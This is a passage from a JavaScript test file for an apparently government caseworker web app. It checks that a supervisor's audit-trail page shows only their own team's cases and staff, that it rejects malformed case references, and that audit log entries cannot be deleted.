        assert.doesNotMatch(
          all.body,
          new RegExp(theirs.reference),
          "another team's case never shows",
        );
        assert.match(all.body, />Signed in</);
        assert.doesNotMatch(all.body, new RegExp(roads.email), "nor people only in another team");

        const trail = await supervisor.browser.get(
          `/staff/audit?reference=${ours.reference.toLowerCase()}`,
        );
        assert.equal(trail.statusCode, 200);
        assert.match(
          trail.body,
          new RegExp(`<h1 class="govuk-heading-l">Audit trail of case ${ours.reference}</h1>`),
        );
        assert.match(trail.body, /Viewed the case/);
        assert.doesNotMatch(trail.body, />Signed in</);
        const hidden = await supervisor.browser.get(`/staff/audit?reference=${theirs.reference}`);
        const unknownRef = await supervisor.browser.get("/staff/audit?reference=2222-2222-2");
        assert.match(hidden.body, /No entries match/);
        assert.equal(
          comparable(hidden.body).replace(theirs.reference, "REF"),
          comparable(unknownRef.body).replace(/2222-2222-2/g, "REF"),
        );
        const bad = await supervisor.browser.get("/staff/audit?reference=not-a-ref");
        assert.equal(bad.statusCode, 422);
        assert.deepEqual(errorSummary(bad.body), [
          ["#reference", "Enter a case reference like ABCD-2345-F, or leave it empty"],
        ]);

        const byPerson = await supervisor.browser.get(
          `/staff/audit?staff=${encodeURIComponent(officer.email.toUpperCase())}`,
        );
        assert.match(byPerson.body, new RegExp(officer.email));
        assert.doesNotMatch(byPerson.body, new RegExp(supervisor.email));

        // The audit log itself cannot be rewritten.
        await assert.rejects(db.deleteFrom("audit_log").execute());
      });
    });
  });
}
